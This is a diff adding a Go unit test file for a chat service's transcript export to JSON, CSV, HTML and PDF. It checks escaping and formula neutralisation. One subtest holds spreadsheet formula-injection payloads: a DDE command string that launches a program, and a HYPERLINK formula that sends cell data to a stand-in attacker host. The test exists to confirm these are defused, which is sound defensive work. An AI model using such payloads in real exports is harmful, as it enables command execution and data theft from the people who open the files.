@@ -0,0 +1,125 @@
+package services
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"testing"
+	"time"
+
+	"github.com/scp-platform/backend/internal/models"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/mock"
+)
+
+func newTestTranscript(t *testing.T) *Transcript {
+	company, ada, rep := "Café <Blanc>", "Ada", "Rep"
+	subject := "Order #1a2b3c4d"
+	attachment := "/uploads/invoice.pdf"
+	sentAt := time.Date(2026, 12, 14, 4, 30, 0, 0, time.UTC)
+	editedAt := sentAt.Add(5 * time.Minute)
+	deletedAt := sentAt.Add(time.Hour)
+
+	suppliers := new(MockSupplierStore)
+	suppliers.On("GetByID", "supplier1").Return(&models.Supplier{ID: "supplier1", Name: "Fresh Farms", Timezone: "Europe/Berlin"}, nil)
+	users := new(MockUserRepository)
+	users.On("GetByID", "consumer1").Return(&models.User{ID: "consumer1", Role: "consumer", CompanyName: &company}, nil)
+	users.On("GetByID", mock.Anything).Return(nil, assert.AnError)
+	service := NewChatService(new(MockConversationStore), new(MockConsumerLinkStore), new(MockMessageStore), users, nil, nil, nil, nil, suppliers)
+
+	conversation := &models.Conversation{ID: "conv1", ConsumerID: "consumer1", SupplierID: "supplier1", Subject: &subject}
+	messages := []models.Message{
+		{ID: "msg1", SenderID: "consumer1", SenderRole: "consumer", Kind: "text", Content: "Where is <my> order?", CreatedAt: sentAt, EditedAt: &editedAt,
+			Sender: &models.User{ID: "consumer1", Role: "consumer", CompanyName: &company}},
+		{ID: "msg2", SenderID: "manager1", SenderRole: "sales_rep", Kind: "attachment", Content: "invoice.pdf", AttachmentURL: &attachment, CreatedAt: sentAt.Add(time.Hour),
+			Sender: &models.User{ID: "manager1", Role: "manager", FirstName: &ada, LastName: &rep}},
+		{ID: "msg3", SenderID: "", SenderRole: "consumer", Kind: "text", CreatedAt: sentAt.Add(2 * time.Hour), DeletedAt: &deletedAt, Sender: &models.User{}},
+		{ID: "msg4", SenderID: "manager1", SenderRole: "system", Kind: "system", Content: "Conversation assigned to Ada Rep", CreatedAt: sentAt.Add(3 * time.Hour)},
+	}
+
+	transcript, err := service.Transcript(conversation, messages, "https://api.example.com", sentAt.Add(4*time.Hour))
+	assert.NoError(t, err)
+	return transcript
+}
+
+func TestChatService_Transcript(t *testing.T) {
+	transcript := newTestTranscript(t)
+
+	assert.Equal(t, "Fresh Farms", transcript.SupplierName)
+	assert.Equal(t, "Café <Blanc>", transcript.ConsumerName)
+	assert.Equal(t, "Order #1a2b3c4d", transcript.Subject)
+	assert.Equal(t, "Europe/Berlin", transcript.Timezone)
+	assert.Len(t, transcript.Messages, 4)
+
+	first := transcript.Messages[0]
+	assert.Equal(t, "Café <Blanc>", first.SenderName)
+	assert.Equal(t, "2026-12-14T05:30:00+01:00", first.SentAt.Format(time.RFC3339))
+	assert.NotNil(t, first.EditedAt)
+
+	assert.Equal(t, "Ada Rep", transcript.Messages[1].SenderName)
+	assert.Equal(t, "manager", transcript.Messages[1].SenderRole)
+	assert.Equal(t, "https://api.example.com/uploads/invoice.pdf", transcript.Messages[1].AttachmentURL)
+	assert.Equal(t, "Deleted user", transcript.Messages[2].SenderName)
+	assert.True(t, transcript.Messages[2].Deleted)
+	assert.Equal(t, "System", transcript.Messages[3].SenderName)
+}
+
+func TestTranscript_Write(t *testing.T) {
+	transcript := newTestTranscript(t)
+
+	t.Run("json", func(t *testing.T) {
+		var buf bytes.Buffer
+		assert.NoError(t, transcript.Write(&buf, TranscriptJSON))
+		var decoded Transcript
+		assert.NoError(t, json.Unmarshal(buf.Bytes(), &decoded))
+		assert.Len(t, decoded.Messages, 4)
+	})
+
+	t.Run("csv", func(t *testing.T) {
+		var buf bytes.Buffer
+		assert.NoError(t, transcript.Write(&buf, TranscriptCSV))
+		records, err := csv.NewReader(&buf).ReadAll()
+		assert.NoError(t, err)
+		assert.Len(t, records, 5)
+		assert.Equal(t, []string{"2026-12-14T05:30:00+01:00", "Café <Blanc>", "consumer", "text", "Where is <my> order?", "", "2026-12-14T05:35:00+01:00", "false"}, records[1])
+	})
+
+	t.Run("csv formulas", func(t *testing.T) {
+		formulas := *transcript
+		formulas.Messages = []TranscriptEntry{
+			{SenderName: "=cmd|' /C calc'!A0", Kind: models.MessageKindText, Content: `=HYPERLINK("https://evil.example/?d="&A1,"Refund")`},
+			{SenderName: "Café", Kind: models.MessageKindText, Content: "-5 cases short"},
+			{SenderName: "Café", Kind: models.MessageKindText, Content: "\t@SUM(1+1)"},
+		}
+
+		var buf bytes.Buffer
+		assert.NoError(t, formulas.Write(&buf, TranscriptCSV))
+		records, err := csv.NewReader(&buf).ReadAll()
+		assert.NoError(t, err)
+		assert.Equal(t, "'=cmd|' /C calc'!A0", records[1][1])
+		assert.Equal(t, `'=HYPERLINK("https://evil.example/?d="&A1,"Refund")`, records[1][4])
+		assert.Equal(t, "'-5 cases short", records[2][4])
+		assert.Equal(t, "'\t@SUM(1+1)", records[3][4])
+	})
+
+	t.Run("html", func(t *testing.T) {
+		var buf bytes.Buffer
+		assert.NoError(t, transcript.Write(&buf, TranscriptHTML))
+		html := buf.String()
+		assert.Contains(t, html, "Where is &lt;my&gt; order?")
+		assert.Contains(t, html, `<a href="https://api.example.com/uploads/invoice.pdf">`)
+		assert.Contains(t, html, "2026-12-14 05:30:00 CET")
+		assert.NotContains(t, html, "<my>")
+	})
+
+	t.Run("pdf", func(t *testing.T) {
+		var buf bytes.Buffer
+		assert.NoError(t, transcript.Write(&buf, TranscriptPDF))
+		assert.True(t, bytes.HasPrefix(buf.Bytes(), []byte("%PDF-")))
+		assert.Contains(t, buf.String(), "Ada Rep \\(manager\\)")
+	})
+
+	t.Run("unknown", func(t *testing.T) {
+		assert.ErrorIs(t, transcript.Write(&bytes.Buffer{}, "docx"), ErrUnknownTranscriptFormat)
+	})
+}